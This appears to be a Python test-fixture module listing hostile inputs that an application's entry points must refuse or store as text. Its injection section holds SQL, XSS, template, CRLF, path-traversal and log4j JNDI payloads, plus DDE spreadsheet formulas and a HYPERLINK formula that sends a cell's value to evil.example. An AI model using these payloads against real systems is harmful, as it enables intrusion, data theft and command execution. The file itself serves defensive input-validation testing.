"""The hostile corpus: strings and files that every entry point must refuse (or, for free
text, store as text), by category. ``tests/security/test_hostile_*.py`` run each item
through every entry point where it can enter.

Each item has a stable id (shown when a case fails), a category and a note saying why it
is hostile. Small files are committed under ``files/`` and listed in :data:`FILES`; big
ones (zip bombs, a million rows) are made at test time by ``generate.py``, never
committed. ``make_files.py`` rebuilds the committed files.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

FILES_DIR = Path(__file__).parent / "files"


@dataclass(frozen=True)
class Item:
    id: str
    category: str
    text: str
    why: str


# Categories ------------------------------------------------------------------------------
OVERLONG = "overlong"
CONTROL = "control"  # C0/C1 controls, DEL, NUL, escape sequences, private-use, unassigned
BIDI = "bidi"  # text-direction overrides, embeddings, isolates, marks
INVISIBLE = "invisible"  # zero-width characters, fillers, BOM, soft hyphen
DIGITS = "non_ascii_digits"  # digits of other scripts and digit look-alikes
ENCODING = "mixed_encoding"  # mojibake and lone surrogates
INJECTION = "injection"  # SQL, HTML/JS, template, spreadsheet formula, CRLF, paths

CATEGORIES = (OVERLONG, CONTROL, BIDI, INVISIBLE, DIGITS, ENCODING, INJECTION)


def _items(category: str, *rows: tuple[str, str, str]) -> list[Item]:
    return [Item(id=f"{category}:{i}", category=category, text=t, why=w) for i, t, w in rows]


STRINGS: list[Item] = [
    *_items(
        OVERLONG,
        ("name_51", "张" * 51, "one character over a name's 50"),
        ("10k", "王" * 10_001, "over a rule text's 10,000 characters"),
        ("1mb", "A" * 1_000_000, "a megabyte in one field"),
        ("lines_50k", "张\n" * 50_000, "fifty thousand lines"),
    ),
    *_items(
        CONTROL,
        ("nul", "张\x00三", "NUL: truncates C strings, refused by PostgreSQL text"),
        ("bell", "张\x07三", "BEL"),
        ("escape_seq", "张\x1b[2J\x1b[31m三", "a terminal escape sequence (clears a log viewer)"),
        ("backspace", "张三\x08\x08李四", "backspaces that rewrite what is shown"),
        ("del", "张\x7f三", "DEL"),
        ("c1_nel", "张\x85三", "C1 next-line"),
        ("c1_csi", "张\x9b2J三", "C1 control sequence introducer"),
        ("vertical_tab", "张\x0b三", "vertical tab"),
        ("line_separator", "张\u2028三", "Unicode line separator"),
        ("mojibake_c1", "å¼ ä¸\u0089", "UTF-8 bytes of 张三 read as Latin-1 (ends in a C1)"),
        ("private_use", "张\ue000三", "a private-use code point (shown as any font likes)"),
        ("unassigned", "张\U000e0fff三", "an unassigned code point"),
    ),
    *_items(
        BIDI,
        ("rlo", "张\u202e三李", "right-to-left override: staff read the name reversed"),
        ("lro", "\u202d张三", "left-to-right override"),
        ("rle", "张\u202b三", "right-to-left embedding"),
        ("pdf", "张\u202c三", "pop directional formatting"),
        ("rli", "张\u2067三\u2069", "right-to-left isolate and its pop"),
        ("fsi", "\u2068张三", "first-strong isolate"),
        ("rlm", "张\u200f三", "right-to-left mark"),
        ("alm", "张\u061c三", "Arabic letter mark"),
        ("trojan_source", "ok\u202e\u2066 // \u2069\u2066", "the 'Trojan Source' pattern"),
    ),
    *_items(
        INVISIBLE,
        ("zwsp", "张\u200b三", "zero-width space: two names that look the same"),
        ("zwj", "张\u200d三", "zero-width joiner"),
        ("zwnj", "张\u200c三", "zero-width non-joiner"),
        ("word_joiner", "张\u2060三", "word joiner"),
        ("bom", "\ufeff张三", "a byte-order mark inside a field"),
        ("soft_hyphen", "张\u00ad三", "soft hyphen"),
        ("hangul_filler", "张\u3164三", "a letter that renders as nothing"),
        ("only_invisible", "\u200b\u200b", "nothing visible at all"),
    ),
    *_items(
        DIGITS,
        ("fullwidth", "１３９０４７６１２３４", "full-width digits (a phone number)"),
        ("arabic_indic", "١٣٩٠٤٧٦١٢٣٤", "Arabic-Indic digits"),
        ("extended_arabic", "۱۳۹۰۴۷۶۱۲۳۴", "extended Arabic-Indic (Persian) digits"),
        ("devanagari", "१३९०४७६१२३४", "Devanagari digits"),
        ("math_bold", "𝟏𝟑𝟗𝟎𝟒𝟕𝟔𝟏𝟐𝟑𝟒", "mathematical bold digits (NFKC makes them ASCII)"),
        ("superscript", "¹³⁹⁰⁴⁷⁶¹²³⁴", "superscripts: str.isdigit() says yes"),
        ("circled", "①③⑨⓪④⑦⑥①②③④", "circled digits"),
        ("mixed", "1390476١234", "one Arabic-Indic digit among ASCII ones"),
    ),
    *_items(
        ENCODING,
        ("utf8_as_latin1", "Ã¥Â¼Â\xa0", "UTF-8 read as Latin-1 twice (no control left)"),
        (
            "gbk_as_utf8",
            "\ufffd\ufffd\ufffd\ufffd",
            "GBK bytes read as UTF-8: replacement characters",
        ),
        ("kunjinkao", "锟斤拷锟斤拷", "UTF-8 replacement characters written back as GBK"),
    ),
    *_items(
        INJECTION,
        ("sql_or", "' OR 1=1 --", "SQL tautology"),
        ("sql_drop", "Robert'); DROP TABLE registry_person;--", "SQL statement"),
        ("sql_union", "1' UNION SELECT id_number FROM registry_person --", "SQL union"),
        ("like_wildcards", "%_%", "LIKE wildcards"),
        ("xss_script", "<script>alert(1)</script>", "HTML script"),
        ("xss_attr", '"><img src=x onerror=alert(1)>', "breaks out of an attribute"),
        ("xss_js_url", "javascript:alert(1)", "a javascript: URL"),
        ("template", "{{ settings.SECRET_KEY }}{% debug %}", "Django template syntax"),
        ("format", "%s%s%n{0.__class__}", "printf and str.format fields"),
        ("formula_hyperlink", '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "formula"),
        ("formula_dde", "=cmd|' /C calc'!A0", "DDE formula"),
        ("formula_plus", "+1+cmd|' /C calc'!A0", "formula starting with +"),
        ("formula_at", "@SUM(1+1)*cmd|' /C calc'!A0", "formula starting with @"),
        ("crlf_header", "张三\r\nSet-Cookie: sessionid=x", "header injection"),
        ("path", "../../../../etc/passwd", "path traversal"),
        ("log4j", "${jndi:ldap://evil.example/a}", "JNDI lookup"),
    ),
]

# Lone surrogates cannot travel as UTF-8 (a form post or a file); they arrive as JSON
# escapes (``"\ud800"``) in API bodies and JSON files.
LONE_SURROGATES = ["\ud800", "张\udfff三", "\udbff"]


def by_category(*categories: str) -> list[Item]:
    return [item for item in STRINGS if item.category in categories]


def except_ids(items: Iterable[Item], *ids: str) -> list[Item]:
    return [item for item in items if item.id not in ids]


# What each kind of field refuses (the table in docs/security.md, "Hostile input").
# A field kind refuses every item of the listed categories (overlong items only when
# longer than the field's limit); the injection strings and, in free text, the categories
# not listed are stored as typed and escaped on the page.
REFUSED_BY_FIELD_KIND = {
    # Persons' names: no invisible, control or direction characters (dpf.core.text).
    "name": (OVERLONG, CONTROL, BIDI, INVISIBLE),
    # ID, certificate, phone and bank account numbers: ASCII digits (full-width folded).
    "number": CATEGORIES,
    # One-line text (address, ethnicity, bank name, data source): no control or direction
    # characters, no line breaks.
    "single_line": (OVERLONG, CONTROL, BIDI),
    # Several lines (complaints, notes, reasons): line breaks and tabs allowed.
    "free_text": (OVERLONG, CONTROL, BIDI),
}
MAX_LENGTH = {"name": 50, "number": 20, "single_line": 200, "free_text": 2000}


def refused_by(kind: str, max_length: int | None = None) -> list[Item]:
    limit = MAX_LENGTH[kind] if max_length is None else max_length
    refused = set(REFUSED_BY_FIELD_KIND[kind])
    found = []
    for item in STRINGS:
        if item.category == OVERLONG and len(item.text) <= limit:
            continue
        line_break = kind in ("name", "number", "single_line") and any(
            c in item.text for c in "\r\n"
        )
        if item.category in refused or line_break:
            found.append(item)
    return found


def stored_as_text_by(kind: str, max_length: int | None = None) -> list[Item]:
    refused = {item.id for item in refused_by(kind, max_length)}
    return [i for i in STRINGS if i.id not in refused and i.category != OVERLONG]


# Files -------------------------------------------------------------------------------------


@dataclass(frozen=True)
class File:
    name: str
    why: str
    # The refusal code expected at the roster upload (or the first entry point listed).
    expect: str

    @property
    def path(self) -> Path:
        return FILES_DIR / self.name

    def read(self) -> bytes:
        return self.path.read_bytes()


ROSTER_FILES: list[File] = [
    File("truncated.xlsx", "a roster workbook cut off half-way", "not_spreadsheet"),
    File("png_renamed.xlsx", "a PNG picture renamed .xlsx", "not_spreadsheet"),
    File("empty.xlsx", "zero bytes", "empty_file"),
    File("xls_renamed.xlsx", "an old .xls (OLE2) file renamed", "xls_unsupported"),
    File("not_a_workbook.xlsx", "a zip file holding no workbook", "not_spreadsheet"),
    File(
        "xml_entities.xlsx", "shared strings with a 'billion laughs' entity bomb", "not_spreadsheet"
    ),
    File("formulas.xlsx", "formula cells: =HYPERLINK, DDE =cmd|' /C calc'!A0, @, +", "formula"),
    File(
        "wide_20000_columns.xlsx",
        "a header row of 20,000 columns (past Excel's 16,384)",
        "not_spreadsheet|too_many_columns",
    ),
    File("gbk.csv", "a GBK-encoded roster whose ID numbers are all invalid", "rows_invalid"),
    File("nul_bom.csv", "a UTF-8 BOM followed by NUL bytes", "not_spreadsheet"),
    File("mixed_encoding.csv", "a GBK header, UTF-8 rows and a Latin-1 row", "encoding"),
    File(
        "utf16_no_bom.csv",
        "UTF-16 without a byte-order mark (NUL in every other byte)",
        "not_spreadsheet",
    ),
    File(
        "injection.csv",
        "ID cells with SQL, formulas, control and other-script digits",
        "rows_invalid",
    ),
]

PLAN_FILES: list[File] = [
    File("plan_gbk.json", "a plan file in GBK", "file_encoding"),
    File("plan_not_object.json", "a JSON array instead of an object", "file_shape"),
    File("plan_bidi.json", "the plan's name reversed by a direction override", "plan_text"),
    File(
        "plan_control.json", "an indicator name with a terminal escape sequence", "indicator_text"
    ),
    File("plan_surrogates.json", "a lone surrogate as a JSON escape", "file_json"),
    File("plan_nan.json", "a NaN target", "target"),
    File("plan_code_injection.json", "a plan code that is SQL", "plan_code"),
    File(
        "plan_indicator_code.json",
        "an indicator code with slashes (breaks its links)",
        "indicator_code",
    ),
]
# The control case: the same plan without its trap is accepted (make_files.py).
PLAN_VALID = File("plan_valid.json", "the shipped plan as P15, 2026-2030", "")

REGION_FILES: list[File] = [
    File("regions_arabic_digits.csv", "village codes in Arabic-Indic digits", "region_row"),
    File("regions_bidi_name.csv", "a village name with a direction override", "region_row"),
    File("regions_nul.csv", "NUL bytes in a row", "region_file"),
    File("regions_gbk.csv", "a region file in GBK (the command reads UTF-8)", "encoding"),
    File("regions_injection.csv", "a code that is SQL", "region_row"),
]

FACTS_FILES: list[File] = [
    File("facts_not_object.json", "a JSON string", "facts_form"),
    File("facts_gbk.json", "facts in GBK", "facts_file"),
]

FILES = ROSTER_FILES + PLAN_FILES + REGION_FILES + FACTS_FILES
